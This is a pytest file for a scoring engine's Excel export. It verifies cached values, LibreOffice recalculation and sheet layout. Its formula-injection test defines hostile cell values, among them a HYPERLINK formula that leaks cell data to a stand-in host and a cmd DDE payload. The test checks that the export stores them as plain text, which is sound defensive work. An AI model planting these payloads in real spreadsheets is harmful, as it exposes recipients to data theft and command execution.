"""Excel export: cached values equal the engine's, formulas recalculate (LibreOffice) to the
engine's scores after a weight change, and uploaded text never becomes a formula."""

from __future__ import annotations

import dataclasses
import io
import os
import shutil
import subprocess
import time
import zipfile
from pathlib import Path

import numpy as np
import openpyxl
import pandas as pd
import pytest
from python_calamine import CalamineWorkbook

from perfeval_core import load_path
from perfeval_core.analysis import budget as budget_mod
from perfeval_core.analysis.scoring import Scenario, ScoringModel, project_unit
from perfeval_core.model.evaluation import Bands, Evaluation
from perfeval_core.present.export_xlsx import label, score_columns, sheet_name, workbook_bytes
from perfeval_core.present.style import BAND_COLORS

ROOT = Path(__file__).resolve().parent.parent
FOUR_LEVELS = ROOT / "tests" / "fixtures" / "scoretables" / "four_levels.xls"
SCENARIOS = {
    "official": None,
    "benefit40": Scenario(weights={"效益": 40}, mode="renormalise"),
    "mixed": Scenario(weights={"决策": 20, "B1": 10, "D103": 4}, mode="retotal", bands=Bands.from_thresholds([85, 75, 60])),
}


@pytest.fixture(scope="module")
def ev(hohhot) -> Evaluation:
    return hohhot.evaluation


@pytest.fixture(scope="module")
def model(ev) -> ScoringModel:
    return ScoringModel(ev)


def _sheet(data: bytes | Path, name: str) -> pd.DataFrame:
    source = io.BytesIO(data) if isinstance(data, bytes) else data
    return pd.read_excel(source, sheet_name=name, header=None, engine="calamine")


def _scores(data: bytes | Path, ev: Evaluation, lang: str = "zh") -> pd.DataFrame:
    """The score sheet's data rows: unit, depth, level-1 points, total, rank, rating."""
    pos = score_columns(ev)
    raw = _sheet(data, sheet_name("scores", lang))
    body = raw.iloc[pos["first_row"]:].reset_index(drop=True)
    n_l1 = pos["total"] - pos["first_level1"]
    out = pd.DataFrame({"unit": body[0].astype(str), "depth": body[3].astype(int),
                        "total": body[pos["total"]].astype(float), "rank": body[pos["rank"]].astype(int),
                        "rating": body[pos["rating"]].astype(str)})
    for k in range(n_l1):
        out[f"l1_{k}"] = body[pos["first_level1"] + k].astype(float)
    return out


def _weights(data: bytes | Path, lang: str = "zh") -> pd.DataFrame:
    """The weights sheet's node rows, with its header labels as column names."""
    raw = _sheet(data, sheet_name("weights", lang))
    header_row = raw.index[raw[0].astype(str) == label("seq", lang)][0]
    columns = raw.iloc[header_row].tolist()
    body = raw.iloc[header_row + 1:]
    body = body[pd.to_numeric(body[0], errors="coerce").notna()]
    body.columns = [str(c) for c in columns]
    return body.reset_index(drop=True)


def _assert_matches_engine(table: pd.DataFrame, model: ScoringModel, scenario: Scenario | None) -> None:
    result = model.score(scenario)
    assert table["unit"].tolist() == model.unit_names
    np.testing.assert_allclose(table["total"].to_numpy(), result.total, rtol=0, atol=1e-6)
    for k in range(len(model.tree.level1)):
        np.testing.assert_allclose(table[f"l1_{k}"].to_numpy(), result.level1[:, k], rtol=0, atol=1e-6)
    assert table["rank"].tolist() == result.rank.tolist()
    assert table["rating"].tolist() == result.ratings


# ---------------------------------------------------------------------------- cached values


@pytest.mark.parametrize("key", list(SCENARIOS))
def test_cached_values_equal_the_engine(ev, model, key):
    scenario = SCENARIOS[key]
    data = workbook_bytes(ev, scenario)
    _assert_matches_engine(_scores(data, ev), model, scenario)
    weights = _weights(data)
    nodes = model.score(scenario).node_points
    assert weights[label("code")].tolist() == model.tree.codes
    np.testing.assert_allclose(weights[label("effective_points")].astype(float), nodes, atol=1e-9)
    np.testing.assert_allclose(weights[label("scenario_points")].astype(float), nodes, atol=1e-9)
    np.testing.assert_allclose(weights[label("official_points")].astype(float), model.tree.points)
    level1 = weights[weights[label("level")].astype(int) == 1]
    assert level1[label("effective_points")].astype(float).sum() == pytest.approx(100)


def test_workbook_layout_and_formulas(ev, model):
    data = workbook_bytes(ev, SCENARIOS["benefit40"])
    book = CalamineWorkbook.from_filelike(io.BytesIO(data))
    assert book.sheet_names == ["权重", "评分表", "资金", "项目分类", "方案", "结果应用", "赋权方法", "目标完成"]
    wb = openpyxl.load_workbook(io.BytesIO(data))
    pos = score_columns(ev)
    ws = wb["评分表"]
    r = pos["first_row"] + 1  # 1-based
    cell = ws.cell(r, pos["first_level1"] + 1).value
    assert cell.startswith("=SUMPRODUCT(") and "'权重'!" not in cell
    assert ws.cell(r, pos["total"] + 1).value.startswith("=SUM(")
    assert ws.cell(r, pos["rounded"] + 1).value.startswith("=ROUND(")
    rank = ws.cell(r, pos["rank"] + 1).value
    assert rank.startswith("=1+COUNTIFS(") and '">"&' in rank
    rating = ws.cell(r, pos["rating"] + 1).value
    assert rating.startswith("=IF(") and rating.count("IF(") == 3 and "'权重'!" in rating
    assert ws.cell(r, pos["first_leaf"] + 1).number_format == "0.00%"
    assert ws.cell(r, pos["total"] + 1).number_format == "0.00"
    assert ws.freeze_panes == f"B{r}"
    # band colours on the rating column
    rules = [rule for rng in ws.conditional_formatting for rule in rng.rules]
    fills = {(rule.dxf.fill.bgColor.rgb or rule.dxf.fill.fgColor.rgb)[-6:] for rule in rules if rule.dxf}
    assert {c.lstrip("#").upper() for c in BAND_COLORS} <= {f.upper() for f in fills if f}
    # weights: inputs highlighted, effective points are formulas, the note documents them
    wsw = wb["权重"]
    header = [c.value for c in wsw[4]]
    col_input = header.index(label("scenario_points")) + 1
    col_eff = header.index(label("effective_points")) + 1
    codes = [wsw.cell(row, 2).value for row in range(5, 5 + len(model.tree.codes))]
    d_row = 5 + codes.index("D")
    assert wsw.cell(d_row, col_input).fill.fgColor.rgb.endswith("FFD966")
    assert wsw.cell(d_row + 2, col_input).fill.fgColor.rgb.endswith("FFF2CC")
    assert wsw.cell(d_row, col_eff).value.startswith("=IF(")
    assert "SUMIFS" in wsw.cell(d_row, col_eff - 1).value  # children sum
    assert "100" in wsw["A2"].value and "renormalise" in wsw["A2"].value
    band_col = header.index(label("band_lower")) + 1
    assert [wsw.cell(5 + k, band_col).value for k in range(3)] == [90, 80, 60]
    assert wsw.cell(5, band_col).fill.fgColor.rgb.endswith("FFD966")


def test_budget_categories_and_scenario_sheets(ev, model):
    data = workbook_bytes(ev, SCENARIOS["benefit40"])
    budget = _sheet(data, "资金")
    total_row = budget[budget[0] == "合计"].iloc[0]
    totals = budget_mod.totals(ev)
    assert total_row[1] == pytest.approx(totals["budget"])
    assert total_row[4] == pytest.approx(totals["arrival_rate"])
    assert total_row[5] == pytest.approx(totals["execution_rate"])
    wb = openpyxl.load_workbook(io.BytesIO(data))
    rate_cells = [c.value for c in wb["资金"]["E"] if isinstance(c.value, str) and c.value.startswith("=IF(")]
    assert len(rate_cells) >= 10
    categories = _sheet(data, "项目分类")
    assert int(categories[categories[0] == "合计"].iloc[0][2]) == int(ev.projects["count"].sum())
    scenario = _sheet(data, "方案")
    unit = project_unit(ev)
    row = scenario[scenario[0] == unit].iloc[0]
    assert row[1] == pytest.approx(model.score().total[0])
    assert row[3] == pytest.approx(model.score(SCENARIOS["benefit40"]).total[0])
    assert "renormalise" in scenario[1].astype(str).str.cat()


def test_english_labels(ev, model):
    data = workbook_bytes(ev, None, lang="en")
    book = CalamineWorkbook.from_filelike(io.BytesIO(data))
    assert book.sheet_names == ["Weights", "Scores", "Budget", "Categories", "Scenario", "Consequences",
                                "Weighting methods", "Targets"]
    raw = _sheet(data, "Scores")
    pos = score_columns(ev)
    assert raw.iloc[pos["header_row"], 0] == "Unit"
    assert raw.iloc[pos["header_row"], pos["rank"]] == "Rank"
    _assert_matches_engine(_scores(data, ev, "en"), model, None)
    assert "Effective points" in _weights(data, "en").columns


@pytest.mark.parametrize("path", ["sample_data/hohhot_2023_score_table.xlsx", "sample_data/tangshan_2024_evaluation.xlsx",
                                  "tests/fixtures/scoretables/four_levels.xls",
                                  "tests/fixtures/scoretables/merged_units.xlsx",
                                  "tests/fixtures/scoretables/rate_only_utf8bom.csv"])
def test_other_workbooks_export_with_the_engines_values(path):
    ev = load_path(ROOT / path).evaluation
    assert ev is not None
    model = ScoringModel(ev)
    for scenario in (None, Scenario(weights={"A": 40}, mode="renormalise")):
        data = workbook_bytes(ev, scenario)
        _assert_matches_engine(_scores(data, ev), model, scenario)
        CalamineWorkbook.from_filelike(io.BytesIO(data))  # budget / category sheets without data still open


def test_rate_definitions_and_custom_bands(ev):
    custom = dataclasses.replace(
        ev, bands=Bands(("合格", "不合格"), (75.0, 0.0)),
        project=dataclasses.replace(ev.project, arrival_rate_definition="plan",
                                    execution_rate_definition="adjusted_budget"))
    model = ScoringModel(custom)
    data = workbook_bytes(custom)
    _assert_matches_engine(_scores(data, custom), model, None)
    assert set(model.score().ratings) == {"合格", "不合格"}
    wb = openpyxl.load_workbook(io.BytesIO(data))
    pos = score_columns(custom)
    rating = wb["评分表"].cell(pos["first_row"] + 1, pos["rating"] + 1).value
    assert rating.count("IF(") == 1
    budget = _sheet(data, "资金")
    header = budget[budget[0] == "单位"].iloc[0].tolist()
    assert "计划投入（万元）" in header and "调整后预算（万元）" in header
    # plan and adjusted budget are not given in the sample: the rates are blank, not errors
    total_row = budget[budget[0] == "合计"].iloc[0]
    assert pd.isna(total_row[header.index("资金到位率")]) or total_row[header.index("资金到位率")] == ""


# ---------------------------------------------------------------------------- formula injection

HOSTILE_UNIT = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
HOSTILE = [HOSTILE_UNIT, "@SUM(A1)", "+cmd|' /C calc'!A0", "-2+3", "=1+1"]


def _hostile(ev: Evaluation) -> Evaluation:
    old = "新城区"
    units = ev.units.copy()
    units["name"] = units["name"].replace(old, HOSTILE_UNIT)
    units["parent"] = units["parent"].replace(old, HOSTILE_UNIT)
    scores = ev.scores.copy()
    scores["unit"] = scores["unit"].replace(old, HOSTILE_UNIT)
    scores.loc[scores.index[:3], "reason"] = "@SUM(A1)"
    budget = ev.budget.copy()
    budget["unit"] = budget["unit"].replace(old, HOSTILE_UNIT)
    budget["level"] = budget["level"].replace("市", "-2+3")
    projects = ev.projects.copy()
    projects["unit"] = projects["unit"].replace(old, HOSTILE_UNIT)
    projects["category"] = projects["category"].replace("便民利民类", "+cmd|' /C calc'!A0")
    indicators = ev.indicators.copy()
    indicators.loc[indicators["code"] == "D101", "name"] = "@SUM(A1)"
    project = dataclasses.replace(ev.project, name="=1+1")
    return dataclasses.replace(ev, units=units, scores=scores, budget=budget, projects=projects,
                               indicators=indicators, project=project)


def test_uploaded_text_is_never_a_formula(ev):
    hostile = _hostile(ev)
    model = ScoringModel(hostile)
    data = workbook_bytes(hostile, SCENARIOS["benefit40"])
    wb = openpyxl.load_workbook(io.BytesIO(data))
    seen: set[str] = set()
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and any(cell.value.endswith(h) for h in HOSTILE):
                    assert cell.data_type == "s", (ws.title, cell.coordinate, cell.value)
                    seen.add(next(h for h in HOSTILE if cell.value.endswith(h)))
    assert seen == set(HOSTILE)
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                xml = z.read(name).decode()
                for f in xml.split("<f>")[1:]:
                    formula = f.split("</f>")[0]
                    assert "HYPERLINK" not in formula and "cmd" not in formula and "SUM(A1)" not in formula
    # the values read back are the literal strings, and the scores still match
    table = _scores(data, hostile)
    assert HOSTILE_UNIT in table["unit"].tolist()
    _assert_matches_engine(table, model, SCENARIOS["benefit40"])


# ---------------------------------------------------------------------------- LibreOffice recalculation

RECALC_ALWAYS = """<?xml version="1.0" encoding="UTF-8"?>
<oor:items xmlns:oor="http://openoffice.org/2001/registry" xmlns:xs="http://www.w3.org/2001/XMLSchema"
 xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance">
<item oor:path="/org.openoffice.Office.Calc/Formula/Load"><prop oor:name="OOXMLRecalcMode" oor:op="fuse">
<value>0</value></prop></item>
</oor:items>
"""


def _soffice() -> str | None:
    return shutil.which("soffice") or shutil.which("libreoffice")


def _set_inputs(path: Path, out: Path, weights: dict[str, float], bands: list[float] | None = None) -> None:
    """Change input cells the way a user would (openpyxl drops every cached value on save, so
    whatever LibreOffice shows afterwards was recalculated)."""
    wb = openpyxl.load_workbook(path)
    ws = wb["权重"]
    header = [c.value for c in ws[4]]
    code_col = header.index(label("code")) + 1
    input_col = header.index(label("scenario_points")) + 1
    band_col = header.index(label("band_lower")) + 1
    rows = {ws.cell(r, code_col).value: r for r in range(5, ws.max_row + 1)}
    for code, value in weights.items():
        ws.cell(rows[code], input_col).value = value
    for k, value in enumerate(bands or []):
        ws.cell(5 + k, band_col).value = value
    wb.save(out)


def _recalculate(binary: str, files: list[Path], outdir: Path) -> None:
    profile = Path(f"/tmp/lo_profile_{os.getpid()}")
    (profile / "user").mkdir(parents=True, exist_ok=True)
    (profile / "user" / "registrymodifications.xcu").write_text(RECALC_ALWAYS, encoding="utf-8")
    try:
        proc = subprocess.run(
            [binary, f"-env:UserInstallation={profile.as_uri()}", "--headless", "--norestore", "--calc",
             "--convert-to", "xlsx", "--outdir", str(outdir), *map(str, files)],
            capture_output=True, text=True, timeout=240)
    finally:
        shutil.rmtree(profile, ignore_errors=True)
    missing = [f.name for f in files if not (outdir / f.name).exists()]
    assert proc.returncode == 0 and not missing, (proc.returncode, missing, proc.stdout, proc.stderr)


def test_libreoffice_recalculates_to_the_engines_scores(ev, model, tmp_path):
    binary = _soffice()
    if binary is None:
        pytest.skip("LibreOffice (soffice) is not installed; CI installs libreoffice-calc-nogui")
    start = time.perf_counter()
    src = tmp_path / "src"
    edited = tmp_path / "edited"
    out = tmp_path / "out"
    for d in (src, edited, out):
        d.mkdir()
    (src / "official.xlsx").write_bytes(workbook_bytes(ev))
    (src / "scenario.xlsx").write_bytes(workbook_bytes(ev, SCENARIOS["benefit40"]))
    (src / "mixed.xlsx").write_bytes(workbook_bytes(ev, SCENARIOS["mixed"]))
    official_l1 = {model.tree.codes[i]: float(model.tree.points[i]) for i in model.tree.level1}
    cases = {
        # a user sets 效益 to 40 on the official export and moves 优 down to 85
        "official.xlsx": ({"D": 40.0}, [85.0, 80.0, 60.0],
                          Scenario(weights={**official_l1, "D": 40.0}, mode="renormalise", bands=Bands.from_thresholds([85, 80, 60]))),
        # nothing changed: the formulas alone reproduce the scenario
        "scenario.xlsx": ({}, None, SCENARIOS["benefit40"]),
        # a retotal scenario with leaf changes, then a level-1 change on top of it
        "mixed.xlsx": ({"A": 10.0}, None, None),
    }
    mixed_nodes = model.score(SCENARIOS["mixed"]).node_points
    mixed_l1 = {model.tree.codes[i]: float(mixed_nodes[i]) for i in model.tree.level1}
    mixed_l1["A"] = 10.0
    # the engine's equivalent: every leaf at its scenario points, level 1 as edited (renormalise)
    mixed_weights = {**{model.tree.codes[i]: float(mixed_nodes[i]) for i in range(len(mixed_nodes))}, **mixed_l1}
    cases["mixed.xlsx"] = ({"A": 10.0}, None, Scenario(weights=mixed_weights, mode="renormalise", bands=Bands.from_thresholds([85, 75, 60])))
    # a four-level tree: level-1 A from 20 to 30 (the others unchanged)
    deep = load_path(FOUR_LEVELS).evaluation
    assert deep is not None
    deep_model = ScoringModel(deep)
    deep_l1 = {deep_model.tree.codes[i]: float(deep_model.tree.points[i]) for i in deep_model.tree.level1}
    (src / "deep.xlsx").write_bytes(workbook_bytes(deep))
    cases["deep.xlsx"] = ({"A": 30.0}, None, Scenario(weights={**deep_l1, "A": 30.0}, mode="renormalise"))
    evaluations = {name: (deep, deep_model) if name == "deep.xlsx" else (ev, model) for name in cases}
    for name, (weights, bands, _) in cases.items():
        _set_inputs(src / name, edited / name, weights, bands)
    _recalculate(binary, [edited / name for name in cases], out)
    for name, (_, _, expected) in cases.items():
        path = out / name
        this_ev, this_model = evaluations[name]
        _assert_matches_engine(_scores(path, this_ev), this_model, expected)
        weights = _weights(path)
        effective = weights[label("effective_points")].astype(float).to_numpy()
        np.testing.assert_allclose(effective, this_model.score(expected).node_points, atol=1e-9)
        level1 = weights[label("level")].astype(int) == 1
        assert effective[level1.to_numpy()].sum() == pytest.approx(100, abs=1e-9)
        # the live parts of the other sheets were recalculated too
        scenario = _sheet(path, "方案")
        unit = project_unit(this_ev)
        row = scenario[scenario[0] == unit].iloc[0]
        assert row[3] == pytest.approx(this_model.score(expected).unit_total(unit), abs=1e-6)
        if name == "deep.xlsx":
            continue
        budget = _sheet(path, "资金")
        total_row = budget[budget[0] == "合计"].iloc[0]
        assert total_row[4] == pytest.approx(budget_mod.totals(ev)["arrival_rate"], abs=1e-12)
    # 效益 = 40 with the others unchanged: its children keep their proportions, the total stays 100
    weights = _weights(out / "official.xlsx").set_index(label("code"))
    eff = weights[label("effective_points")].astype(float)
    assert eff["D"] == pytest.approx(40 * 100 / 110)
    assert eff["D101"] / eff["D103"] == pytest.approx(12 / 10)
    assert eff["A"] / eff["B"] == pytest.approx(15 / 25)
    assert time.perf_counter() - start < 60


# ---------------------------------------------------------------------------- constant memory


def _cells(data: bytes) -> dict[str, object]:
    """Everything openpyxl sees in a workbook: each cell's value (or formula), number format,
    font and fill; merged ranges, row heights, conditional formats and validations per sheet."""
    wb = openpyxl.load_workbook(io.BytesIO(data))
    out: dict[str, object] = {}
    for ws in wb.worksheets:
        cells = {(c.row, c.column): (c.value, c.number_format, c.font.b, c.fill.fgColor.rgb)
                 for row in ws.iter_rows() for c in row if c.value is not None or c.has_style}
        out[ws.title] = (cells, sorted(str(r) for r in ws.merged_cells.ranges),
                         {k: d.height for k, d in ws.row_dimensions.items() if d.height},
                         sorted(str(r.sqref) for r in ws.conditional_formatting),
                         sorted(str(v.sqref) for v in ws.data_validations.dataValidation),
                         ws.freeze_panes, ws.auto_filter.ref)
    return out


@pytest.mark.parametrize("path", ["sample_data/hohhot_2023_evaluation.xlsx", "sample_data/tangshan_2024_evaluation.xlsx",
                                  "tests/fixtures/scoretables/four_levels.xls"])
def test_constant_memory_writes_the_same_workbook(path):
    """The export spools rows to disk (constant_memory), where xlsxwriter silently drops a write
    to a row above the last one written: the file must hold exactly what the in-memory writer
    produces, sheet by sheet and cell by cell."""
    from perfeval_core.present.export_xlsx import _Writer

    ev = load_path(ROOT / path).evaluation
    assert ev is not None
    # more bands than a small tree has nodes: the band table runs past the tree's rows
    ev = dataclasses.replace(ev, bands=Bands(("A", "B", "C", "D", "E", "F"), (95.0, 90.0, 80.0, 70.0, 60.0, 0.0)))
    for scenario in (None, SCENARIOS["mixed"] if "hohhot" in path else Scenario({"A": 40}, "renormalise")):
        for lang in ("zh", "en"):
            spooled = _cells(_Writer(ev, scenario, lang, constant_memory=True).build())
            in_memory = _cells(_Writer(ev, scenario, lang, constant_memory=False).build())
            assert spooled.keys() == in_memory.keys()
            for name in spooled:
                assert spooled[name] == in_memory[name], name


def test_formula_fast_path_prepares_formulas_as_xlsxwriter_does(ev):
    """_Sheet skips xlsxwriter's 29 regular expressions for formulas that call only plain
    functions: for every formula the export writes (and ones that need a prefix) the prepared
    text is xlsxwriter's own."""
    from xlsxwriter.worksheet import Worksheet

    from perfeval_core.present.export_xlsx import _Sheet

    wb = openpyxl.load_workbook(io.BytesIO(workbook_bytes(ev, SCENARIOS["mixed"])))
    formulas = {c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row
                if isinstance(c.value, str) and c.value.startswith("=")}
    assert len(formulas) > 100
    formulas |= {"=XLOOKUP(A1,B:B,C:C)", "=SUM(FILTER(A1:A9,B1:B9>0))", "=IF(A1>0,SORT(B1:B3),0)", "{=SUM(A1:A3)}",
                 "=_xlfn.XLOOKUP(A1,B:B,C:C)", "=ROUND(SUM(A1:B1),2)"}
    fast, plain = _Sheet(), Worksheet()
    for sheet in (fast, plain):
        sheet.use_future_functions = False
    for formula in formulas:
        assert fast._prepare_formula(formula) == plain._prepare_formula(formula), formula


def test_the_methods_sheet_holds_each_methods_weights(ev, model):
    """赋权方法: the official level-1 points and equal / entropy / CRITIC weights, as the engine
    gives them, each summing to the official total."""
    from perfeval_core.analysis import methods

    data = workbook_bytes(ev, None)
    sheet = _sheet(data, "赋权方法")
    header = sheet.iloc[3].tolist()
    depth = int(model.unit_depth.max())
    tree = model.tree
    for candidate in methods.side_by_side(model, depth):
        row = sheet[sheet[0] == label(f"method_{candidate.method}")].iloc[0]
        assert candidate.weights is not None
        points = [float(row[1 + j]) for j in range(len(tree.level1))]
        assert points == pytest.approx([candidate.weights[tree.codes[i]] for i in tree.level1], abs=1e-9)
        assert sum(points) == pytest.approx(tree.total)
        assert int(row[header.index(label("method_ratings"))]) == candidate.rating_changes


def test_the_targets_sheet_follows_the_assessment(ev):
    """目标完成: the template's 目标值 and 实际值 columns give targets, assessed as on the page."""
    from perfeval_core.analysis import targets

    assessed = targets.assess(ev)
    assert len(assessed) and set(assessed["light"]) >= {"met", "missed"}
    sheet = _sheet(workbook_bytes(ev, None), "目标完成")
    body = sheet.iloc[4:].reset_index(drop=True)
    assert len(body) == len(assessed)
    np.testing.assert_allclose(body[4].astype(float), assessed["completion"].astype(float))
    assert body[5].tolist() == [label(f"tg_{k}") for k in assessed["light"]]
    # an evaluation without targets has no such sheet
    bare = dataclasses.replace(ev, goals=ev.goals.iloc[0:0])
    assert "目标完成" not in CalamineWorkbook.from_filelike(io.BytesIO(workbook_bytes(bare, None))).sheet_names
